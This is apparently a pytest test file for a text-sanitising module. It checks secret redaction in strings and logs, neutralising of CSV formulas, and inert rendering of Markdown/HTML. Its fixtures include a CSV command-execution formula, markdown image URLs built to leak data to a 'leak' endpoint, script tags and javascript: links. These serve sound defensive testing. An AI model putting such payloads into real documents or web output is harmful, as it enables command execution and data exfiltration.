"""Untrusted text: secrets redacted, CSV formulas neutralised, Markdown/HTML made inert (checked by a CommonMark renderer)."""

import csv
import html
import io
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from rag_ft.untrusted import csv_cell, inert, inert_line, redact, safe_name, short

KEY = "sk-proj-abcdefghijklmnopqrstuvwxyz0123456789"


@pytest.mark.parametrize("text", [
    f"Incorrect API key provided: {KEY}.",
    f"Authorization: Bearer {KEY}",
    f'{{"error": {{"api_key": "{KEY}"}}}}',
    f"GET https://api.example.com/v1/models?api_key={KEY}&x=1",
])
def test_keys_never_survive_redaction(text):
    out = redact(text)
    assert KEY not in out and KEY[10:30] not in out
    assert "***" in out


def test_credentials_in_urls_and_tokens_of_other_providers():
    assert redact("cannot reach http://alice:s3cr3t@vllm.internal:8000/v1") == "cannot reach http://***@vllm.internal:8000/v1"
    assert "fw_3ZaBcDeFgHiJkLmNoP" not in redact("key fw_3ZaBcDeFgHiJkLmNoP refused")
    assert "tgp_v1_AbCdEfGhIjKl" not in redact("bad tgp_v1_AbCdEfGhIjKl")
    assert redact("plain words, no secret: 12 pages") == "plain words, no secret: 12 pages"


def test_a_configured_secret_of_unknown_format_is_masked_anywhere():
    assert redact("server said: my-odd-key-1234 is wrong", secrets=["my-odd-key-1234", None, ""]) == (
        "server said: *** is wrong")


def test_short_redacts_before_cutting():
    out = short("x" * 290 + " " + KEY, limit=300)
    assert "sk-proj-abc" not in out.replace("sk-proj-***", "")


@pytest.mark.parametrize("cell", ["=HYPERLINK(\"http://x\",\"y\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                                  "\tx", "\rx"])
def test_formula_cells_are_quoted(cell):
    assert csv_cell(cell) == "'" + cell
    buf = io.StringIO()
    csv.writer(buf).writerow([csv_cell(cell)])
    assert next(csv.reader(io.StringIO(buf.getvalue())))[0].startswith("'")


def test_ordinary_cells_and_numbers_are_unchanged():
    assert csv_cell("What is the SLA?") == "What is the SLA?"
    assert csv_cell(-3) == -3 and csv_cell(0.5) == 0.5 and csv_cell(None) is None


MD = MarkdownIt("commonmark", {"html": True}).enable("table").enable("strikethrough")
HOSTILE = [
    "![x](http://127.0.0.1:9/leak?q=secret)",
    "before\n\n![x](http://127.0.0.1:9/leak)",
    "<img src=http://127.0.0.1:9/leak>",
    "<div>\n\n![x](http://h/l)\n\n</div>",
    "[click](javascript:alert(1)) <http://h/autolink>",
    "# heading\n- item\n> quote\n```\ncode\n```",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "<script>alert(1)</script>",
]


def _visible_text(rendered: str) -> str:
    return html.unescape(re.sub(r"<[^>]+>", "", rendered))


@pytest.mark.parametrize("text", HOSTILE)
def test_inert_text_renders_as_the_same_characters(text):
    rendered = MD.render(inert(text))
    assert not re.search(r"<(img|a|script|div|h\d|li|blockquote|pre|code|table)\b", rendered), rendered
    assert " ".join(_visible_text(rendered).split()) == " ".join(text.split())


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=80))
def test_inert_never_makes_markup(text):
    rendered = MD.render(inert(text))
    # an indented line becomes a code block: still only text (its content is escaped), so allowed
    assert re.fullmatch(r"(<p>|</p>|<br />|<pre><code>|</code></pre>|\s|[^<>])*", rendered), rendered


def test_inert_line_is_one_short_line():
    out = inert_line("a\n\nb " + "c" * 500, limit=20)
    assert "\n" not in out and len(html.unescape(out)) == 23


def test_safe_name_replaces_lone_surrogates_and_controls():
    name = safe_name("report\ud800\x00.pdf")
    name.encode("utf-8")  # no UnicodeEncodeError
    assert name.startswith("report") and name.endswith(".pdf")


def test_log_records_are_redacted(caplog):
    import logging

    import rag_ft  # noqa: F401  (installs the redacting record factory)

    log = logging.getLogger("some.library")
    with caplog.at_level(logging.INFO):
        log.info("calling with key %s", KEY)
        try:
            raise RuntimeError(f"refused {KEY}")
        except RuntimeError:
            log.exception("failed")
    text = caplog.text
    assert "failed" in text and "calling with key" in text
    assert KEY not in text and "RuntimeError" in text


def test_registered_secret_is_masked_everywhere():
    from rag_ft.settings import load_settings

    load_settings(env={"OPENAI_API_KEY": "odd-format-key-9876543"})
    assert redact("the server said odd-format-key-9876543 is invalid") == "the server said *** is invalid"
